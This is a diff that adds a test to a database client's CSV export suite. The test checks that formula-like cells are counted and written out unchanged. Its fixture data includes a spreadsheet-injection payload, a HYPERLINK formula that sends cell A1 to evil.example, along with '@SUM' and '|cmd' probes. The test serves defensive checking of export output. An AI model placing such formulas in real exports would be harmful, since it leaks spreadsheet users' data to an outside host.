@@ -250,6 +250,32 @@ describe('full-result export (MySQL 9.7)', () => {
     expect(await readFile(file, 'utf8')).toBe(`marker,db\r\nfrom-the-session,${DB}\r\n`);
   });
 
+  it('counts the cells a spreadsheet may run as formulas, and writes them as they are', async () => {
+    const q = await run(
+      b,
+      session,
+      `SELECT * FROM (SELECT '=HYPERLINK("https://evil.example/?"&A1,"x")' AS v
+        UNION ALL SELECT '@SUM(1+1)' UNION ALL SELECT '-1+1|cmd' UNION ALL SELECT '-1.5'
+        UNION ALL SELECT '+2e3' UNION ALL SELECT 'plain' UNION ALL SELECT '') AS t`,
+    );
+    const file = path.join(dir, 'formulas.csv');
+    const started = await b.call('query.export', {
+      confirmedFolder: true,
+      queryId: q.queryId,
+      format: 'csv',
+      path: file,
+    });
+    if (!started.ok) throw new Error(started.error.message);
+    expect(await exportEnded(b, started.value.exportId)).toMatchObject({
+      state: 'done',
+      rows: 7,
+      formulaLikeCells: 3,
+    });
+    expect(await readFile(file, 'utf8')).toBe(
+      'v\r\n"=HYPERLINK(""https://evil.example/?""&A1,""x"")"\r\n@SUM(1+1)\r\n-1+1|cmd\r\n-1.5\r\n+2e3\r\nplain\r\n""\r\n',
+    );
+  });
+
   it('cancels mid-way with KILL QUERY, removes the partial file, and the session stays usable', async () => {
     const big = await run(
       b,
